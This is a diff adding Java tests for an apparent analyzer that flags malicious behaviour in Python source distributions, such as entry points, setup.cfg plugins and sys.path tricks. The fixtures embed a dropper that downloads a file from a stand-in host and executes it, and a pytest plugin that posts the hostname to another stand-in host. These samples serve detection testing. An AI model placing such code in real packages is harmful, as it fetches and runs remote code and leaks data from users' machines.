@@ -306,4 +306,75 @@ class SdistAnalyzerTest {
           assertThat(f.summary()).contains("spawns a process (subprocess.Popen at pgish-2.9/setup.py:6)");
         });
   }
+
+  private static final String DROPPER = """
+      import subprocess, tempfile, urllib.request
+      def main():
+          exe = tempfile.gettempdir() + "/h"
+          urllib.request.urlretrieve("https://d.example.invalid/h", exe)
+          subprocess.Popen([exe])
+      """;
+
+  @Test
+  void aPytestPluginDeclaredInSetupCfgIsFollowedIntoItsModule() throws IOException {
+    Analysis a = analyze(SdistFixture.named("cfgplug", "1.0")
+        .file("setup.py", "from setuptools import setup\nsetup()\n")
+        .file("setup.cfg", "[metadata]\nname = cfgplug\n\n[options.entry_points]\npytest11 =\n    p = cfgplug.plugin\n")
+        .file("cfgplug/__init__.py", "")
+        .file("cfgplug/plugin.py", "import requests, socket\nrequests.post('https://r.example.invalid', data=socket.gethostname())\n")
+        .tarGz(tmp));
+    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
+      assertThat(f.evidence().path()).isEqualTo("cfgplug-1.0/setup.cfg");
+      assertThat(f.capabilities()).contains(Capability.NETWORK);
+    });
+  }
+
+  @Test
+  void aConsoleScriptDeclaredInPyprojectThatDownloadsAndRunsAFileIsReported() throws IOException {
+    Analysis a = analyze(SdistFixture.named("tomlcli", "1.0")
+        .file("pyproject.toml", "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n"
+            + "[project]\nname = \"tomlcli\"\n[project.scripts]\ntomlcli = \"tomlcli.cli:main\"\n")
+        .file("tomlcli/__init__.py", "")
+        .file("tomlcli/cli.py", DROPPER)
+        .tarGz(tmp));
+    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement().satisfies(f -> {
+      assertThat(f.severity()).isGreaterThanOrEqualTo(Severity.HIGH);
+      assertThat(f.summary()).contains("the command tomlcli runs tomlcli.cli:main");
+    });
+  }
+
+  @Test
+  void entryPointsBoundToANameInSetupPyAreFollowedAndAPlainOneIsNotReported() throws IOException {
+    Analysis a = analyze(SdistFixture.named("eps", "1.0")
+        .file("setup.py", """
+            from setuptools import setup
+            EPS = {"console_scripts": ["eps = eps.cli:main", "eps-quiet = eps:greet"]}
+            setup(name="eps", entry_points=EPS)
+            """)
+        .file("eps/__init__.py", PACKAGE)
+        .file("eps/cli.py", DROPPER)
+        .tarGz(tmp));
+    assertThat(by(a, Trigger.PLUGIN_ENTRY_POINT)).singleElement()
+        .satisfies(f -> assertThat(f.summary()).contains("the command eps runs eps.cli:main"));
+  }
+
+  @Test
+  void aSetupScriptThatPutsAFolderOnSysPathIsFollowedIntoItsModules() throws IOException {
+    Analysis a = analyze(SdistFixture.named("libdir", "1.0")
+        .file("setup.py", """
+            import os, sys
+            sys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))
+            from setuptools import setup
+            from helpers import main
+            main()
+            setup(name="libdir", package_dir={"": "lib"})
+            """)
+        .file("lib/libdir/__init__.py", "")
+        .file("lib/helpers.py", DROPPER)
+        .tarGz(tmp));
+    assertThat(by(a, Trigger.SETUP_SCRIPT)).anySatisfy(f -> {
+      assertThat(f.capabilities()).contains(Capability.NETWORK, Capability.PROCESS_SPAWN);
+      assertThat(f.summary()).contains("lib/helpers.py");
+    });
+  }
 }
